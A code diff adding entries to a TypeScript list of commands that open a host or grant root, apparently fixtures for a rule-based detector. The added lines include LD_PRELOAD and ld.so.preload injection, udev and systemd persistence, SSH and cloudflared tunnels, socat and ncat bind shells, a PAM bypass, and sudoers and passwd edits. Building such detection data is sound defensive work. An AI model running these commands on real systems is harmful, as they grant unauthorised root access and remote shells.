@@ -1,6 +1,21 @@
 /** Commands that open a host or make somebody root on it, by the rule that finds them. */
 export const ofHosts: Readonly<Record<string, readonly string[]>> = {
   root: [
+    "LD_PRELOAD=/tmp/a.so sudo -E ls",
+    "export LD_PRELOAD=/home/ada/a.so",
+    "cp a.so /etc/ld.so.preload",
+    "echo /srv/a.so | sudo tee /etc/ld.so.preload",
+    "sed -i '$a /tmp/a.so' /etc/ld.so.preload",
+    "printf '[Service]\nEnvironment=LD_PRELOAD=/tmp/a.so\n' > /etc/systemd/system/a.service.d/a.conf",
+    'echo \'ACTION=="add", SUBSYSTEM=="usb", RUN+="/tmp/a.sh"\' > /etc/udev/rules.d/99-a.rules',
+    'echo \'ACTION=="add", RUN{program}+="/bin/sh -c id"\' | sudo tee /usr/lib/udev/rules.d/a.rules',
+    "ssh -fN -D 0.0.0.0:1080 relay@h",
+    "ssh -g -L 8080:localhost:80 h",
+    "autossh -M 0 -N -R 2222:localhost:22 relay@h",
+    "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash",
+    "ncat -lvp 4444 -e /bin/bash",
+    "cloudflared tunnel --url http://localhost:8080",
+    "echo 'auth sufficient pam_permit.so' > /etc/pam.d/su",
     "sed -i 's/^docker:x:999:/docker:x:999:deploy/' /etc/group",
     "echo 'deploy ALL=(ALL) NOPASSWD:ALL' | sudo EDITOR='tee -a' visudo",
     "sed -i 's/^deploy:x:1000:/deploy:x:0:/' /etc/passwd",
